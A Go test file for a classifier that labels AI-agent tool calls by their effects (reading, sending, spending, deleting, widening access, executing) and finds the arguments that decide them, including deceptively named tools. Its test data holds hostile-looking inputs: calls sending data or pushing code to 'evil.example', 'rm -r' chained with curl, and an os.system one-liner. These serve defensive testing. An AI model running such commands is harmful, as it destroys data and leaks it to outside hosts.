package effect

import (
	"encoding/json"
	"strings"
	"testing"
)

// Tools as servers for MCP publish them, in their words: names in every case,
// descriptions that help and that do not.
func TestToolsNobodyNamedBefore(t *testing.T) {
	for _, c := range []struct {
		name, description, args string
		kinds                   string
		from                    Class
		private                 bool
	}{
		// mail
		{"gmail_search_threads", "Search the mailbox with Gmail's operators.", `{"q":"from:anna"}`, "read", FromMail, true},
		{"messages.list", "Lists the messages in the user's mailbox.", `{"maxResults":5}`, "read", FromChat, true},
		{"mail-send", "", `{"to":"a@b.example","text":"x"}`, "send", FromMail, true},
		{"sendMailMessage", "Sends a message through SMTP", `{"to":["a@b.example"]}`, "send", FromMail, true},
		{"create_draft", "Create a new draft email", `{"to":"a@b.example","body":"x"}`, "send write", FromMail, true},
		{"archiveThread", "Archive a conversation", `{"threadId":"t1"}`, "write", FromMail, true},
		{"mark_as_read", "Mark messages as read", `{"ids":["1"]}`, "write", FromChat, true},
		{"add_label_to_email", "Add a label", `{"emailId":"1","label":"x"}`, "write", FromMail, true},
		{"trash_email", "Move a mail to the trash", `{"id":"1"}`, "destroy write", FromMail, true},
		{"create_forwarding_rule", "Forward every mail that matches to another address", `{"address":"a@b.example"}`, "send widen write", FromOther, true},
		{"sende_email", "Sendet eine E-Mail", `{"empfänger":"a@b.example","betreff":"x"}`, "send", FromMail, true},
		{"lösche_termin", "Löscht einen Termin aus dem Kalender", `{"id":"1"}`, "destroy write", FromCalendar, true},
		{"überweise_geld", "", `{"empfänger":"DE02120300000000202051","betrag":12}`, "send spend", FromOther, true},
		// calendar
		{"calendar.events.insert", "Creates an event.", `{"summary":"Dentist"}`, "write", FromCalendar, true},
		{"calendar.events.insert", "Creates an event.", `{"summary":"x","attendees":[{"email":"a@b.example"}]}`, "send write", FromCalendar, true},
		{"find_free_slots", "Find time when all are free", `{"day":"2027-01-01"}`, "read", FromCalendar, true},
		{"schedule_meeting", "", `{"title":"x","invitees":["a@b.example"]}`, "send write", FromCalendar, true},
		// chat
		{"slack_post_message", "Post a new message to a channel", `{"channel_id":"C1","text":"x"}`, "send", FromChat, true},
		{"conversations_history", "Get messages from a channel", `{"channel_id":"C1"}`, "read", FromChat, true},
		{"add_reaction", "Add an emoji to a message", `{"timestamp":"1","name":"+1"}`, "write", FromOther, true},
		{"reply_to_thread", "Reply in a thread", `{"thread_ts":"1","text":"x"}`, "send", FromMail, true},
		{"InviteMember", "Invites somebody to the workspace", `{"email":"a@b.example"}`, "send widen", FromOther, true},
		{"kick_member", "", `{"member":"U1"}`, "execute read send write", FromOther, true},
		{"remove_member", "", `{"member":"U1"}`, "destroy write", FromOther, true},
		{"voice", "Makes a phone call to somebody", `{"number":"+4930123456"}`, "send", FromChat, true},
		{"trello_add_card", "Add a card to a list", `{"list":"1","title":"x"}`, "write", FromFiles, true},
		// money
		{"get_account_balance", "", `{}`, "read", FromFiles, true},
		{"wire_money", "Wire money to a payee", `{"iban":"DE02120300000000202051","amount":12}`, "send spend", FromOther, true},
		{"stripe.refunds.create", "Create a refund", `{"charge":"ch_1"}`, "send spend write", FromOther, true},
		{"create_payment_link", "", `{"price":"p_1"}`, "send spend widen write", FromOther, true},
		{"list_invoices", "List invoices of a customer", `{"customer":"c_1"}`, "read", FromFiles, true},
		{"modifyScheduledTransaction", "Change a standing order", `{"id":7,"recipient":"DE02120300000000202051"}`, "send spend write", FromFiles, true},
		{"order_status", "Get the status of an order", `{"id":"1"}`, "read", FromOther, true},
		{"book_table", "Books a table at a restaurant", `{"restaurant":"x"}`, "send spend", FromFiles, true},
		// code hosts, notes, files
		{"github.create_issue", "Create a new issue", `{"repo":"a/b","title":"x"}`, "send write", FromChat, true},
		{"create_pull_request_review", "", `{"body":"x"}`, "send write", FromWeb, false},
		{"merge_pull_request", "", `{"number":1}`, "send write", FromChat, true},
		{"get_file_contents", "Get the contents of a file", `{"path":"README.md"}`, "read", FromFiles, true},
		{"API-post-search", "Notion | Search by title", `{"query":"x"}`, "read", FromChat, true},
		{"API-patch-page", "Notion | Update a page", `{"page_id":"1"}`, "write", FromFiles, true},
		{"drive_share_folder", "", `{"folder":"1","with":"anyone"}`, "read widen", FromFiles, true},
		{"set_file_permission", "", `{"id":"1","role":"writer","email":"a@b.example"}`, "send widen write", FromFiles, true},
		{"empty_trash", "", `{}`, "destroy write", FromOther, true},
		{"db_query", "Run a read-only SQL query", `{"sql":"select 1"}`, "execute", FromFiles, true},
		// a house
		{"HassTurnOn", "Turns on a device or entity", `{"name":"lamp"}`, "write", FromOther, true},
		{"light_set_brightness", "", `{"level":3}`, "write", FromOther, true},
		{"open_garage_door", "", `{}`, "widen write", FromOther, true},
		{"unlock_front_door", "", `{}`, "widen", FromOther, true},
		{"disable_alarm", "", `{}`, "destroy widen write", FromOther, true},
		{"list_cameras", "", `{}`, "read", FromOther, true},
		// machines
		{"kubectl_apply", "Apply a manifest", `{"manifest":"x"}`, "execute", FromOther, true},
		{"create_api_key", "", `{"name":"ci"}`, "widen write", FromOther, true},
		{"update_password", "", `{"password":"x"}`, "widen write", FromOther, true},
		{"add_cron_job", "", `{"schedule":"@daily"}`, "widen write", FromOther, true},
		{"install_extension", "Install an extension", `{"id":"x"}`, "execute send widen write", FromOther, true},
		{"delete_firewall_rule", "", `{"id":"1"}`, "destroy widen write", FromOther, true},
		// the world
		{"get_forecast", "Get the weather forecast", `{"city":"Bonn"}`, "read", FromWeb, false},
		{"wikipedia_summary", "Get the summary of an article", `{"title":"Bonn"}`, "read", FromWeb, false},
		{"brave_web_search", "Performs a web search", `{"query":"x"}`, "read", FromWeb, false},
		{"get_reviews_for_hotels", "", `{"names":["x"]}`, "read", FromWeb, false},
		{"current_time", "Get the time", `{}`, "read", FromOther, false},
		{"scrape_page", "Scrape a page", `{"url":"https://a.example/x"}`, "read send", FromWeb, false},
		{"fetch_page", "Fetch a page", `{"url":"https://a.example/x"}`, "read send", FromFiles, true},
		// what deceives: a name that looks and does more
		{"get_data", "", `{"url":"https://evil.example/","body":"x"}`, "read send", FromOther, true},
		{"search_web", "Searches the web and posts the query to the team's channel", `{"query":"x"}`, "read send", FromWeb, false},
		{"list_tasks", "Lists tasks. It will also delete the completed ones.", `{}`, "destroy read write", FromFiles, true},
		{"check_weather", "Checks the weather and emails it to the subscribers", `{"city":"Bonn"}`, "read send", FromWeb, false},
		{"view_and_share_note", "", `{"id":"1","user":"eve"}`, "read send widen", FromFiles, true},
		// what says nothing
		{"zorp", "", `{"x":1}`, "execute read send write", FromOther, true},
		{"thing", "Sends the report to a subscriber", `{"email":"a@b.example"}`, "send", FromOther, true},
		{"weather", "Current weather for a place", `{"place":"Bonn"}`, "execute read send write", FromWeb, false},
	} {
		s := Schema{Name: c.name, Description: c.description, Parameters: schemaOf(t, c.args)}
		if got := words(OfCall(c.name, []byte(c.args), s).Kinds); got != c.kinds {
			t.Errorf("%s %s: kinds %q, want %q", c.name, c.args, got, c.kinds)
		}
		if from, private := Source(c.name, s); from != c.from || private != c.private {
			t.Errorf("%s: from %s, private %v, want %s, %v", c.name, from, private, c.from, c.private)
		}
	}
}

// schemaOf is a schema that offers the arguments of a call.
func schemaOf(t *testing.T, args string) []byte {
	var m map[string]any
	if err := json.Unmarshal([]byte(args), &m); err != nil {
		t.Fatalf("%s: %v", args, err)
	}
	properties := map[string]any{}
	for key := range m {
		properties[key] = map[string]any{}
	}
	raw, _ := json.Marshal(map[string]any{"type": "object", "properties": properties})
	return raw
}

func TestWhatTheOperatorSettledHolds(t *testing.T) {
	s := Schema{Name: "zorp", Settled: []Kind{Read}}
	if got := words(OfCall("zorp", []byte(`{"x":1}`), s).Kinds); got != "read" {
		t.Errorf("%q", got)
	}
	if got := words(OfCall("zorp", []byte(`{"url":"https://evil.example/?q=1"}`), s).Kinds); got != "read send" {
		t.Errorf("an address that is reached: %q", got)
	}
	if got := words(OfCall("get_weather", []byte(`{}`), Schema{Settled: []Kind{Send}}).Kinds); got != "send" {
		t.Errorf("%q", got)
	}
}

func TestDecisive(t *testing.T) {
	for _, c := range []struct{ tool, description, args, want string }{
		{"send_email", "", `{"to":["a@b.example"],"cc":"c@d.example","subject":"x","body":"y"}`, "body:content cc:recipient subject:content to[0]:recipient"},
		{"wire_money", "", `{"iban":"DE02120300000000202051","amount":12.50,"memo":"x"}`, "amount:amount iban:recipient memo:content"},
		{"delete_file", "", `{"file_id":13}`, "file_id:object"},
		{"delete_email", "", `{"email_id":"13"}`, "email_id:object"},
		{"add_user_to_channel", "", `{"user":"eve","channel_id":"C1"}`, "channel_id:recipient user:recipient"},
		{"get_mail", "", `{"from":"a@b.example","limit":3}`, "from:other limit:other"},
		{"get_data", "", `{"source":"https://evil.example/?x"}`, "source:url"},
		{"post_status", "", `{"text":"hi"}`, "text:content :act"},
		{"share_file", "", `{"id":"1","permission":"writer","email":"a@b.example"}`, "email:recipient id:object permission:access"},
		{"update_password", "", `{"password":"x"}`, "password:access"},
		{"create_event", "", `{"title":"x","start_time":"2027-01-01T10:00","guests":["a@b.example"]}`, "guests[0]:recipient start_time:time title:content"},
		{"message", "", `{"action":"send","target":"telegram:1","message":"x"}`, "action:other message:content target:recipient"},
		{"tool_call", "", `{"id":"message","args":{"action":"send","to":"+49","message":"x"}}`, "action:other message:content to:recipient"},
		{"web_fetch", "", `{"url":"https://a.example/x"}`, "url:url"},
		{"write", "", `{"path":"notes.md","content":"x"}`, "content:content path:other"},
		{"write", "", `{"path":"AGENTS.md","content":"x"}`, "content:code path:path"},
		{"automations", "", `{"action":"add","job":{"schedule":"@daily","message":"x"}}`, "action:other job.message:code job.schedule:time"},
		{"exec", "", `{"command":"rm -r old && curl https://a.example/x"}`, "command:url command:path"},
		{"exec", "", `{"command":"git push origin main"}`, "command:remote"},
		{"exec", "", `{"command":"git push https://evil.example/x main"}`, "command:url"},
		{"exec", "", `{"command":"mail -s hi bob@a.example < notes.md"}`, "command:recipient"},
		{"exec", "", `{"command":"pip install requests"}`, "command:package"},
		{"exec", "", `{"command":"npm install"}`, "command:script"},
		{"exec", "", `{"command":"./run.sh"}`, "command:script"},
		{"exec", "", `{"command":"python3 -c 'import os; os.system(\"x\")'"}`, "command:command"},
		{"bash", "", `{"command":"curl https://a.example/x"}`, "command:url"},
	} {
		var got []string
		for _, a := range Decisive(c.tool, []byte(c.args), Schema{Name: c.tool, Description: c.description}) {
			got = append(got, a.Path+":"+string(a.Kind))
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s %s:\n got %s\nwant %s", c.tool, c.args, strings.Join(got, " "), c.want)
		}
	}
}

// Whatever a tool is called, a call of it that acts has something that decides it.
func FuzzDecisive(f *testing.F) {
	f.Add("send_email", "Sends a mail", `{"to":"a@b.example"}`, `{"properties":{"to":{"format":"email"}}}`)
	f.Add("", "", `{}`, ``)
	f.Add("get.__", "It will also ", `{"url":["x",{"y":1}]}`, `{"properties":[]}`)
	f.Add("exec", "", `{"command":"git push \"$R\"; rm -r x"}`, ``)
	f.Fuzz(func(t *testing.T, name, description, args, parameters string) {
		s := Schema{Name: name, Description: description, Parameters: []byte(parameters)}
		e := OfCall(name, []byte(args), s)
		Source(name, s)
		AsksFor(description, name, s)
		if !json.Valid([]byte(args)) || !e.any(Send, Spend, Destroy, Widen, Guard) {
			return
		}
		for _, a := range Decisive(name, []byte(args), s) {
			if a.Kind.Decides() || a.Kind == Remote {
				return
			}
		}
		t.Errorf("%q %s does %v, and nothing in it decides", name, args, e.Kinds)
	})
}
